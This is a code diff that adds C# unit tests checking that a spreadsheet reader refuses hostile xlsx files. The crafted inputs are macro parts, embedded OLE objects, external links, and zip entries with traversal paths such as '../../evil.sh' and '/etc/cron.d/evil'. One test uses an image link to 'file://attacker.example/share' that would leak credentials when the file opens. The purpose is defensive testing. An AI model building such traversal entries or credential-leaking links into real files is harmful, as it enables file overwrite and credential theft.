@@ -256,4 +256,108 @@ public class HostileFileTests
         Assert.Equal("file.corrupt", Rejected(OneSheet("<row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"A1\"><v>2</v></c></row>")).Code);
         Assert.Equal("file.corrupt", Rejected(OneSheet("<row r=\"1\"><c r=\"A1\"><v>1</v></c>")).Code);
     }
+
+    private const string PackageRels = "http://schemas.openxmlformats.org/package/2006/relationships";
+
+    private static Dictionary<string, string> ValidBook() => Workbook([("S", "sheet1.xml", "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>")]);
+
+    /// <summary>The workbook's relationships plus one more.</summary>
+    private static Dictionary<string, string> WithWorkbookRelationship(Dictionary<string, string> parts, string type, string target, bool external = false)
+    {
+        parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].Replace("</Relationships>",
+            $"<Relationship Id=\"rIdX\" Type=\"{type}\" Target=\"{target}\"{(external ? " TargetMode=\"External\"" : "")}/></Relationships>");
+        return parts;
+    }
+
+    [Fact]
+    public void A_workbook_with_macros_is_refused_even_when_its_sheets_are_valid()
+    {
+        var parts = ValidBook();
+        parts["xl/vbaProject.bin"] = "\u00d0\u00cf\u0011\u00e0";
+        var e = Rejected(Zip(parts));
+        Assert.Equal("file.macro", e.Code);
+        Assert.Contains("xl/vbaProject.bin", e.Message);
+
+        // Renamed, it is found by the relationship that makes Excel load it.
+        parts = WithWorkbookRelationship(ValidBook(), "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "data.bin");
+        parts["xl/data.bin"] = "x";
+        Assert.Equal("file.macro", Rejected(Zip(parts)).Code);
+
+        // Excel 4.0 macro sheets.
+        parts = ValidBook();
+        parts["xl/macrosheets/sheet1.xml"] = "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>";
+        Assert.Equal("file.macro", Rejected(Zip(parts)).Code);
+
+        Assert.Single(Rows(Zip(ValidBook())));
+    }
+
+    [Fact]
+    public void Embedded_objects_and_controls_are_refused()
+    {
+        var parts = ValidBook();
+        parts["xl/embeddings/oleObject1.bin"] = "x";
+        Assert.Equal("file.embedded_object", Rejected(Zip(parts)).Code);
+        parts = ValidBook();
+        parts["xl/worksheets/_rels/sheet1.xml.rels"] = $"<Relationships xmlns=\"{PackageRels}\"><Relationship Id=\"rId1\" "
+            + $"Type=\"{Rel}/oleObject\" Target=\"../objects/payload.bin\"/></Relationships>";
+        parts["xl/objects/payload.bin"] = "MZ";
+        Assert.Equal("file.embedded_object", Rejected(Zip(parts)).Code);
+    }
+
+    [Fact]
+    public void External_links_and_data_connections_are_refused_but_hyperlinks_in_cells_are_not()
+    {
+        var parts = ValidBook();
+        parts["xl/externalLinks/externalLink1.xml"] = $"<externalLink xmlns=\"{Main}\"/>";
+        var e = Rejected(Zip(parts));
+        Assert.Equal("file.external_link", e.Code);
+        Assert.Contains("编辑链接", e.Message);
+
+        parts = ValidBook();
+        parts["xl/connections.xml"] = $"<connections xmlns=\"{Main}\"/>";
+        Assert.Equal("file.external_link", Rejected(Zip(parts)).Code);
+
+        // An image linked from a network share is fetched when the file opens (and leaks the reader's credentials).
+        parts = ValidBook();
+        parts["xl/worksheets/_rels/sheet1.xml.rels"] = $"<Relationships xmlns=\"{PackageRels}\"><Relationship Id=\"rId1\" Type=\"{Rel}/image\" "
+            + "Target=\"file://attacker.example/share/logo.png\" TargetMode=\"External\"/></Relationships>";
+        e = Rejected(Zip(parts));
+        Assert.Equal("file.external_link", e.Code);
+        Assert.Contains("attacker.example", e.Message);
+
+        parts = ValidBook();
+        parts["xl/worksheets/_rels/sheet1.xml.rels"] = $"<Relationships xmlns=\"{PackageRels}\"><Relationship Id=\"rId1\" Type=\"{Rel}/hyperlink\" "
+            + "Target=\"https://www.miit.gov.cn/\" TargetMode=\"External\"/></Relationships>";
+        Assert.Single(Rows(Zip(parts)));
+    }
+
+    [Theory]
+    [InlineData("../../evil.sh")]
+    [InlineData("xl/../../evil.sh")]
+    [InlineData("/etc/cron.d/evil")]
+    [InlineData("\\\\server\\share\\evil")]
+    [InlineData("C:/Windows/evil.dll")]
+    public void Entries_that_would_unzip_outside_their_folder_are_refused(string entry)
+    {
+        var parts = ValidBook();
+        parts[entry] = "x";
+        var e = Rejected(Zip(parts));
+        Assert.Equal("file.unsafe_path", e.Code);
+        Assert.Contains("路径不安全", e.Message);
+    }
+
+    [Fact]
+    public void The_name_must_fit_the_content_when_it_is_given()
+    {
+        var xlsx = Zip(ValidBook());
+        var csv = Encoding.UTF8.GetBytes("a,b\n1,2\n");
+        using (SpreadsheetReader.Open(new MemoryStream(xlsx), new SpreadsheetLimits(), fileName: "月报.XLSX")) { }
+        using (SpreadsheetReader.Open(new MemoryStream(csv), new SpreadsheetLimits(), fileName: "日志.csv")) { }
+        foreach (var (bytes, name) in new[] { (xlsx, "月报.csv"), (xlsx, "月报.xlsm"), (xlsx, "rnxslx.exe"), (csv, "日志.xlsx"), (csv, "日志") })
+        {
+            var e = Assert.Throws<SpreadsheetRejectedException>(() => SpreadsheetReader.Open(new MemoryStream(bytes), new SpreadsheetLimits(), fileName: name));
+            Assert.Equal("file.extension_mismatch", e.Code);
+            Assert.Contains(name, e.Message);
+        }
+    }
 }
